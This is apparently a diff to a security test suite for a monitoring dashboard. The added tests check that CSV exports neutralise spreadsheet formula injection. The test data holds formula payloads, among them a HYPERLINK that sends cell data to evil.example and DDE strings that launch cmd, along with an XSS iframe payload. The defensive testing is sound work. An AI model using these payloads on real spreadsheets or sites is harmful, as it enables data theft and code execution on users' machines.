@@ -1,7 +1,9 @@
 // What a browser gets: security headers on every answer, a nonce-based Content-Security-Policy on
 // pages that the real dashboard runs under without a single violation, attacker-controlled strings
-// from collectors shown as text, and error pages that reveal nothing of the server's insides.
+// from collectors shown as text (and as text in every exported table, never as a spreadsheet
+// formula), and error pages that reveal nothing of the server's insides.
 import { readdirSync, readFileSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
 import path from 'node:path';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -9,6 +11,7 @@ import { call, enrollHost, signInAdmin, type BrowserSession } from '@/test/helpe
 import { startAppServer, type AppServer } from '@/test/helpers/app-server';
 import { launchBrowser, signInPage } from '@/test/helpers/browser';
 import { listener, makeSnapshot } from '@/test/helpers/snapshots';
+import { spreadsheetFields, startsAFormula } from '@/test/helpers/spreadsheet';
 
 let server: AppServer;
 let admin: BrowserSession;
@@ -22,9 +25,30 @@ const payloads = {
   user: '"><iframe src=javascript:window.__xss=4>',
 };
 
+// What a compromised host would send to run code in an analyst's spreadsheet.
+const formulas = {
+  user: '=HYPERLINK("http://evil.example/?"&A1,"open me")',
+  process: "+cmd|' /C calc'!A0",
+  args: '@SUM(1+1)*cmd|" /C calc"!A0',
+  state: '-2+3',
+  tab: '\t=1+1',
+  carriageReturn: '\r=1+1',
+  afterComma: 'x,=1+1',
+  afterSemicolon: 'x;@SUM(1)',
+};
+
 beforeAll(async () => {
   server = await startAppServer();
   admin = await signInAdmin(server);
+  const csvToken = await enrollHost(server, admin, 'csv-host');
+  const formulaSockets = [
+    listener(5555, formulas.process, { user: formulas.user, state: formulas.state, pid: 5555 }),
+    listener(5556, formulas.tab, { user: formulas.carriageReturn, pid: 5556 }),
+    listener(5557, formulas.afterComma, { user: formulas.afterSemicolon, pid: 5557 }),
+  ];
+  const formulaProcesses = [5555, 5556, 5557].map((pid) => ({ pid, ppid: 1, user: formulas.user, uid: 0, command: formulas.process, args: formulas.args, startedAt: null }));
+  const posted = await call(server, { kind: 'bearer', token: csvToken }, 'POST', '/api/v1/snapshots', { json: makeSnapshot('csv-host', { sockets: formulaSockets, processes: formulaProcesses }) });
+  expect(posted.status).toBe(202);
   const token = await enrollHost(server, admin, 'xss-host');
   const snapshot = makeSnapshot('xss-host', {
     sockets: [listener(22, 'sshd'), listener(6666, payloads.process, { user: payloads.user })],
@@ -117,6 +141,22 @@ describe('error answers', () => {
   });
 });
 
+describe('exported tables', () => {
+  it('sockets.csv (the pipe table): no cell a spreadsheet would run, however it splits the lines', async () => {
+    const result = await call(server, admin, 'GET', '/api/v1/hosts/csv-host/sockets.csv');
+    expect(result.status).toBe(200);
+    expect(result.text.split('\n')[0]).toBe('login|uid|command|ppid|pid|type|protocol|state|src_ip|src_port|dst_ip|dst_port');
+    for (const delimiter of ['|', ',', ';', '\t']) {
+      expect(spreadsheetFields(result.text, delimiter).filter(startsAFormula), `split on ${JSON.stringify(delimiter)}`).toEqual([]);
+    }
+    // The values are all there, shown as text.
+    const cells = spreadsheetFields(result.text, '|');
+    expect(cells).toContain(`'${formulas.user}`);
+    expect(cells).toContain(`'${formulas.process}`);
+    expect(cells).toContain(`'${formulas.state}`);
+  });
+});
+
 describe('source', () => {
   it('has no raw-HTML escape hatch anywhere in pages, components or server code', () => {
     const offenders: string[] = [];
@@ -166,6 +206,15 @@ describe('in a real browser', () => {
     await page.getByRole('link', { name: 'xss-host' }).first().waitFor({ timeout: 20_000 });
     expect(await pageState()).toEqual(clean);
     expect(consoleViolations).toEqual([]);
+  });
+
+  it("the host page's CSV export holds no cell a spreadsheet would run", async () => {
+    await page.goto(`${server.url}/hosts/csv-host`);
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
+    const csv = await readFile((await download.path()) as string, 'utf8');
+    for (const delimiter of [',', ';', '\t']) expect(spreadsheetFields(csv, delimiter).filter(startsAFormula), `split on ${JSON.stringify(delimiter)}`).toEqual([]);
+    // The listening tab's rows (5556, 5557), their command lines included, shown as text.
+    expect(spreadsheetFields(csv, ',')).toEqual(expect.arrayContaining([`'${formulas.args}`, "x,'=1+1", "x;'@SUM(1)"]));
   });
 
   it('the host page shows collector strings as text: nothing injected, nothing run', async () => {
